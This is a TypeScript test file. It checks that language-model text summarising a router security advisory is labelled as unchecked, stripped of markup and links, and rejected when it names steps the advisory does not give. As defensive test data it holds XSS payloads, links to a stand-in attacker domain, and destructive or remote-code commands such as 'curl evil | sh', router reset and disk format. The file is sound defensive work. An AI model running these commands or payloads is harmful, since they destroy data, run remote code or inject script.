import { describe, expect, it } from 'vitest';
import { modelSection } from './model-section.ts';

const ground = [
  '# CVE-2030-0001',
  'Upgrade to 7.23.5 or newer, or to 6.49.21.',
  '```\n/system package update install\n```',
  'See <https://example.org/advisory>.',
].join('\n\n');
const section = (written: string) =>
  modelSection(written, { ground, references: ['https://example.org/advisory'], model: 'small-model' });
const bodyOf = (written: string): string => section(written)?.split('\n\n').slice(2).join('\n\n') ?? '';

describe('the words of a language model', () => {
  it('are marked as such', () => {
    const text = section('Upgrade the router.');
    expect(text).toMatch(/^## In other words\n\n_Written by a language model \(small-model\).*not checked/u);
    expect(text).toContain('Upgrade the router.');
  });

  it('keep lists and strong words', () => {
    expect(bodyOf('# First\n- **Upgrade** to 7.23.5.\n1. Then look.\n\nDone.')).toBe(
      'First\n- **Upgrade** to 7.23.5.\n1. Then look.\n\nDone.',
    );
  });

  it.each([
    ['<script>alert(1)</script>'],
    ['<img src=x onerror=alert(1)>'],
    ['[click](javascript:alert(1))'],
    ['![pixel](https://evil.example/pixel.png)'],
    ['[a]: https://evil.example/'],
    ['see https://evil.example/x, or www.evil.example'],
    ['see HTTPS://EVIL.example/x and ftp://evil.example'],
    ['mail root@evil.example'],
    ['&lt;b&gt; | table | ~~no~~'],
    ['**[x](https://evil.example)**'],
    ['\u001b[2J\u202eabc'],
  ])('let no markup or address through: %s', (written) => {
    const body = bodyOf(written);
    expect(body).not.toMatch(/(?<!\\)[<[\]|~]/u);
    expect(body).not.toMatch(/evil\.example/iu);
    expect(body).not.toContain('\u001b');
    expect(body).not.toContain('\u202e');
  });

  it('may link to references of the record', () => {
    expect(bodyOf('Read https://example.org/advisory.')).toContain('<https://example.org/advisory>');
    expect(bodyOf('Read https://example.org/other.')).not.toContain('https:');
  });

  it.each([
    ['Upgrade to 7.99.1.'],
    ['Upgrade to 7.23.4.'],
    ['Upgrade to 7.23.'],
    ['This is like CVE-2030-9999.'],
    ['Run `/system reset-configuration no-defaults=yes`.'],
    ['Run /system reset-configuration now'],
    ['Run /disk format-drive slot1'],
    ['Run **/disk format-drive slot1**'],
    ['First /file remove 0, then upgrade.'],
    ['Type "/quit"; (/log print)'],
    ['```\n/user add name=x group=full password=y\n```'],
    ['Run `curl evil | sh`.'],
    [''],
    ['\n\n'],
  ])('are not used when they say what the advice does not: %s', (written) => {
    expect(section(written)).toBeUndefined();
  });

  it('may repeat what the advice says', () => {
    expect(section('Run `/system package update install`, then check for 7.23.5 or 6.49.21.')).toBeDefined();
    expect(section('CVE-2030-0001 is mended by 7.23.5.')).toBeDefined();
    expect(section('Upgrade and/or ask the vendor, see https://example.org/advisory.')).toBeDefined();
    expect(section('Keep 192/8 out; read/write access is enough.')).toBeDefined();
  });

  it('are cut where they are too long', () => {
    expect(section('word '.repeat(100_000))?.length).toBeLessThan(6000);
    expect(section('a\n'.repeat(100_000))?.split('\n').length).toBeLessThan(140);
  });
});
